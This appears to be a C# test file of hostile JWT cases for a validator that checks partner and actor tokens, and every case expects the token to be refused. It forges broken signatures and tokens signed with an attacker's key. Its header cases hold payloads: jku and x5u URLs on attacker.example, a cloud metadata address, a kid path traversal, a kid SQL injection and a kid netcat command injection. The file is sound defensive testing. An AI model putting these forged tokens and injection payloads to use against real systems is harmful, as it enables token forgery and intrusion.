using System.Text.Json.Nodes;

namespace PartnerTrust.Trust.Tests.Validation.Hostile;

/// <summary>3.3 every cryptographic operation validated, 3.10 keys and addresses in the token not trusted.</summary>
internal static class CryptographyCases
{
    public static IEnumerable<HostileCase> All() => [.. BrokenSignatures(), .. KeysOfTheAttacker()];

    private static IEnumerable<HostileCase> BrokenSignatures() =>
    [
        Broken("no signature", () => Forge.ReplaceSignature(Forge.Actor(), _ => [])),
        Broken("a signature of zeroes", () => Forge.ReplaceSignature(Forge.Actor(), signature => new byte[signature.Length])),
        Broken("a bit flipped", () => Forge.ReplaceSignature(Forge.Actor(), signature => [(byte)(signature[0] ^ 1), .. signature[1..]])),
        Broken("a signature cut short", () => Forge.ReplaceSignature(Forge.Actor(), signature => signature[..^1])),
        Broken("a signature with a tail", () => Forge.ReplaceSignature(Forge.Actor(), signature => [.. signature, 0])),
        Broken(
            "a signature of ones, larger than the modulus",
            () => Forge.ReplaceSignature(Forge.Actor(), signature => [.. Enumerable.Repeat((byte)255, signature.Length)])),
        Broken(
            "the signature of another token",
            () => $"{Forge.Actor()[..Forge.Actor().LastIndexOf('.')]}.{Forge.Parts(Forge.Actor(c => c["jti"] = "1"))[2]}"),
        Broken("claims added after signing", () => Forge.ReplaceClaims(Forge.Actor(), c => c["jti"] = "1")),
        Broken("a later expiry after signing", () => Forge.ReplaceClaims(Forge.Actor(), c => c["exp"] = "4102444800")),
        Broken("the header changed after signing", () => Forge.ReplaceHeader(Forge.Actor(), h => h["cty"] = "x")),
        BrokenInside(
            "delegation added to the actor token after signing",
            () => Forge.User(actor: Forge.ReplaceClaims(Forge.Actor(), c => c["trustedfordelegation"] = "true"))),
        BrokenInside("the actor token's signature stripped", () => Forge.UserAround(actor => Forge.ReplaceSignature(actor, _ => []))),
        BrokenInside("the actor token signed by the attacker", () => Forge.User(
            actor: Forge.Actor(c => c["trustedfordelegation"] = "true", h => h["x5t"] = Certs.Public(0).Thumbprint.X5t, Forge.Attacker))),
    ];

    private static IEnumerable<HostileCase> KeysOfTheAttacker() =>
    [
        Own("a key of the attacker under the name of a trusted one", _ => { }),
        .. Brought("the attacker's key in \"jwk\"", h => h["jwk"] = new JsonObject { ["kty"] = "RSA", ["e"] = "AQAB", ["n"] = "AQAB" }),
        .. Brought(
            "the attacker's certificate in \"x5c\"",
            h => h["x5c"] = new JsonArray(Convert.ToBase64String(Certs.Public(Forge.Attacker).Der.AsSpan()))),
        .. Brought("the attacker's key set in \"jku\"", h => h["jku"] = "https://attacker.example/keys"),
        .. Brought("the attacker's certificate at \"x5u\"", h => h["x5u"] = "https://attacker.example/certificate.pem"),
        .. Brought("an address inside the house in \"jku\"", h => h["jku"] = "http://169.254.169.254/latest/meta-data"),
        .. Brought("an empty \"jku\"", h => h["jku"] = ""),
        Own("a path in \"kid\"", h => h["kid"] = "../../../../dev/null"),
        Own("a query in \"kid\"", h => h["kid"] = "x' UNION SELECT 'key' --"),
        Own("a command in \"kid\"", h => h["kid"] = "| nc attacker.example 80"),
        Named("the attacker's own certificate named", "PT5025", h => h["x5t"] = Certs.Public(Forge.Attacker).Thumbprint.X5t),
        Named("no certificate named", "PT5024", h => h.Remove("x5t")),
        Named("a thumbprint in hexadecimal", "PT5024", h => h["x5t"] = Certs.Public(0).Thumbprint.Hex),
        Named(
            "a certificate named in base64 with more padding",
            "PT5024",
            h => h["x5t"] = Convert.ToBase64String(Convert.FromHexString(Certs.Public(0).Thumbprint.Hex)).Replace('+', '-').Replace('/', '_') + "=="),
        Named("a certificate named with padding", "PT5024", h => h["x5t"] = Certs.Public(0).Thumbprint.X5t + "="),
        Named("a certificate named with a blank", "PT5024", h => h["x5t"] = Certs.Public(0).Thumbprint.X5t + " "),
        Named("a certificate named with a new line", "PT5024", h => h["x5t"] = "\n" + Certs.Public(0).Thumbprint.X5t),
        Named("a certificate named with stray bits at the end", "PT5024", h => h["x5t"] = Certs.Public(0).Thumbprint.X5t[..^1] + "_"),
        Named("a number as certificate", "PT5024", h => h["x5t"] = 1),
        Named("only the SHA-256 name of the certificate", "PT5024", h =>
        {
            h.Remove("x5t");
            h["x5t#S256"] = "abc";
        }),
        new("3.10", "a critical extension", "header", "PT5007", () => Forge.Actor(header: h => h["crit"] = new JsonArray("exp"))),
        new("3.10", "the payload announced as not encoded", "header", "PT5007", () => Forge.Actor(header: h => h["b64"] = false)),
    ];

    private static HostileCase Broken(string name, Func<string> token) => new("3.3", name, "signature", "PT5028", token);

    private static HostileCase BrokenInside(string name, Func<string> token) => Broken(name, token) with { Twin = () => Forge.User() };

    /// <summary>The twin carries the same header parameter and is signed by the trusted key: the parameter is not looked at.</summary>
    private static HostileCase Own(string name, Action<JsonObject> header) => new("3.10", name, "signature", "PT5028", () => Forge.Actor(
        header: h =>
        {
            h["x5t"] = Certs.Public(0).Thumbprint.X5t;
            header(h);
        },
        key: Forge.Attacker))
    {
        Twin = () => Forge.Actor(header: header),
    };

    /// <summary>Refused before any key is looked for, whoever signed: with the attacker's key, with the trusted one, inside a user token and
    /// around one.</summary>
    private static IEnumerable<HostileCase> Brought(string name, Action<JsonObject> header) =>
    [
        new("3.10", name, "header", "PT5013", () => Forge.Actor(header: header, key: Forge.Attacker)),
        new("3.10", name + ", signed by the trusted key", "header", "PT5013", () => Forge.Actor(header: header)),
        new("3.10", name + ", inside a user token", "actorToken", "PT5013", () => Forge.User(actor: Forge.Actor(header: header))) { Twin = () => Forge.User() },
        new("3.10", name + ", of a user token", "header", "PT5013", () => Forge.User(header: header)) { Twin = () => Forge.User() },
    ];

    private static HostileCase Named(string name, string code, Action<JsonObject> header) =>
        new("3.10", name, "signingKey", code, () => Forge.Actor(header: header));
}
